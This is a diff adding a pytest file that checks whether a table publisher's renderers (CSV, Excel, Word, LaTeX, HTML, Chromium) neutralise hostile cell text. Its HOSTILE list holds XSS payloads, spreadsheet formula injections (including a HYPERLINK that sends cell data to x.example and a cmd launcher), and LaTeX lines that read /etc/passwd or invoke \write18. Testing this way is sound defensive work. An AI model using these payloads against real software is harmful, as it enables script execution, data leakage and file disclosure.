@@ -1,0 +1,173 @@
+"""A table whose every text is an attack, in every format: read back it says what it said, and nothing of it runs."""
+
+import csv
+import io
+import json
+import re
+import shutil
+import subprocess
+import zipfile
+
+import docx
+import lxml.html
+import pandas as pd
+import pytest
+from python_calamine import CalamineWorkbook
+
+from publish.reading import CHROMIUM, FLAGS, LATEX, compiled, in_latex, in_word, opened
+from publish.reading import words as cells_of
+from tipimpact.common import i18n
+from tipimpact.publish import ResultTable
+from tipimpact.publish.cells import clean
+from tipimpact.publish.model import flat
+from tipimpact.publish.table import RENDERERS
+
+LANGUAGES = pytest.mark.parametrize("lang", i18n.LANGUAGES)
+HOSTILE = (
+    "<script>document.title = 'alive'</script>",
+    "<img src=x onerror=\"document.title='alive'\">",
+    '" onmouseover="document.title=1" autofocus onfocus="document.title=1',
+    "javascript:document.title='alive'",
+    'https://x.example/"onclick="document.title=1',
+    "]]>--></style></title></textarea></table><svg onload=alert(1)>",
+    "{{ 7 * 7 }} {% raw %}",
+    '=HYPERLINK("http://x.example/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\N{FULLWIDTH EQUALS SIGN}SUM(1)",
+    r"\input{/etc/passwd} \input{canary}",
+    r"\write18{touch alive}\openout1=alive",
+    r"$x^2$ % _ # & {} ~ \end{longtable}",
+    "a\x00b\x1bc",
+    "\N{RIGHT-TO-LEFT OVERRIDE}txt.exe\N{FIRST STRONG ISOLATE}",
+)
+TEXTS = ("unit", "citation", "theme", "why_en", "why_fr", "superseded_by", "reviewed_by")
+
+
+@pytest.fixture
+def attacked(words, data, contract, sources) -> ResultTable:
+    """The demo table with an attack in each text of each row, in the words that came with it and in its sources."""
+    rows = pd.concat([data.iloc[[0]]] * len(HOSTILE), ignore_index=True)
+    for name in TEXTS:
+        rows[name] = HOSTILE
+    rows["flags"] = [[text, text] for text in HOSTILE]
+    rows = contract.conform(rows)
+    said = dict.fromkeys(i18n.LANGUAGES, HOSTILE[0])
+    rows.attrs = {**data.attrs, "plan_hash": HOSTILE[0], "labels": {"theme": {HOSTILE[1]: said}}}
+    source = sources.sources[0]
+    bad = source.model_copy(update={"citation": HOSTILE[0], "vintage": HOSTILE[1], "urls": [HOSTILE[4]]})
+    return ResultTable(rows, contract, sources.model_copy(update={"sources": [bad, *sources.sources[1:]]}))
+
+
+def unmarked(text: str) -> str:
+    return text.removeprefix("'")
+
+
+@LANGUAGES
+@pytest.mark.parametrize(("format", "delimiter"), [("csv", ","), ("semicolons.csv", ";")])
+def test_no_formula_is_alive_in_csv(attacked, lang, format, delimiter):
+    text = attacked.render(format, lang).removeprefix("\N{BYTE ORDER MARK}")
+    view = attacked.view(lang)
+    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+    assert len(read) == len(HOSTILE) + 1
+    for said, row in zip(read[1:], view.rows, strict=True):
+        for field, cell in zip(said, flat(row), strict=True):
+            if cell.kind in ("text", "list"):
+                assert not field.startswith(tuple("=+-@\t\r\n＝"))
+                assert unmarked(field) == unmarked(cell.text)
+    assert not re.search(r"[\x00\x1b\u202a-\u202e\u2066-\u2069]", text)
+
+
+@LANGUAGES
+def test_no_formula_and_no_link_is_alive_in_excel(attacked, lang):
+    content, view = attacked.render("xlsx", lang), attacked.view(lang)
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith((".xml", ".rels"))}
+    for name, part in parts.items():
+        if name.startswith("xl/worksheets/"):
+            assert not re.search(r"<f[ >]|<hyperlink", part), name
+        assert 'TargetMode="External"' not in part, name
+    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(1).to_python()
+    for said, row in zip(rows[1:], view.rows, strict=True):
+        for value, cell in zip(said, flat(row), strict=True):
+            if cell.kind in ("text", "list"):
+                assert isinstance(value, str)
+                assert value.split() == cell.text.split()
+
+
+@LANGUAGES
+def test_word_holds_text_and_no_field(attacked, lang):
+    content, view = attacked.render("docx", lang), attacked.view(lang)
+    assert in_word(content, view) == cells_of(view)
+    with zipfile.ZipFile(io.BytesIO(content)) as file:
+        assert not re.search(r"<w:(instrText|fldSimple|hyperlink|object)\b", file.read("word/document.xml").decode())
+        assert 'TargetMode="External"' not in file.read("word/_rels/document.xml.rels").decode()
+    assert docx.Document(io.BytesIO(content)).tables
+
+
+@LANGUAGES
+@pytest.mark.skipif(not LATEX, reason="pdfLaTeX is not installed")
+def test_latex_reads_no_file_and_runs_nothing(attacked, lang, tmp_path):
+    view = attacked.view(lang)
+    (tmp_path / "canary.tex").write_text("CANARY", encoding="utf-8")
+    said = compiled(attacked.render("tex", lang), tmp_path)
+    assert "canary" not in said
+    assert "/etc/passwd" not in said
+    assert not [*tmp_path.glob("alive*")]
+    assert in_latex(attacked.render("tex", lang), view) == cells_of(view)
+    if shutil.which("pdftotext"):
+        done = subprocess.run(["pdftotext", "whole.pdf", "-"], cwd=tmp_path, capture_output=True, text=True, check=True)
+        assert "CANARY" not in done.stdout
+
+
+@LANGUAGES
+def test_descriptions_and_citations_stay_whole(attacked, lang):
+    for format in ("metadata.json", "csv-metadata.json", "csl.json"):
+        json.loads(attacked.render(format, lang))
+    entry = attacked.render("bib", lang)
+    assert entry.count("{") == entry.count("}")
+
+
+def test_every_format_is_attacked_here(attacked):
+    assert set(RENDERERS) == {
+        *("html", "csv", "semicolons.csv", "xlsx", "docx", "tex", "metadata.json", "csv-metadata.json"),
+        *("bib", "csl.json"),
+    }
+
+
+def pages(attacked: ResultTable) -> dict[str, str]:
+    return {**{lang: attacked.render("html", lang) for lang in i18n.LANGUAGES}, "both": attacked.bilingual()}
+
+
+def test_no_markup_is_alive_in_html(attacked):
+    for name, text in pages(attacked).items():
+        page = lxml.html.document_fromstring(text)
+        assert not page.xpath("//script | //svg | //img | //*[@autofocus] | //@*[starts-with(name(), 'on')]"), name
+        assert not [href for href in page.xpath("//@href") if re.match(r"\s*(javascript|data:text)", href, re.I)]
+        assert "\x00" not in text
+        shown = "".join(page.itertext())
+        for attack in HOSTILE:
+            assert " ".join(clean(attack).split()) in " ".join(shown.split()), attack
+
+
+@pytest.mark.skipif(not CHROMIUM, reason="Chromium is not installed (Debian: chromium)")
+def test_nothing_runs_in_chromium(attacked, tmp_path):
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=list(FLAGS))
+        for page in opened(browser):  # without errors, and asking nothing of the network
+            page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
+            for name, text in pages(attacked).items():
+                (tmp_path / f"{name}.html").write_text(text, encoding="utf-8")
+                page.goto((tmp_path / f"{name}.html").as_uri())
+                title = page.title()
+                for cell in page.locator("tbody td").all()[:40]:
+                    cell.dispatch_event("mouseover")
+                assert page.title() == title != "alive"
+                assert page.locator("tbody tr").count() == len(HOSTILE)
+        browser.close()
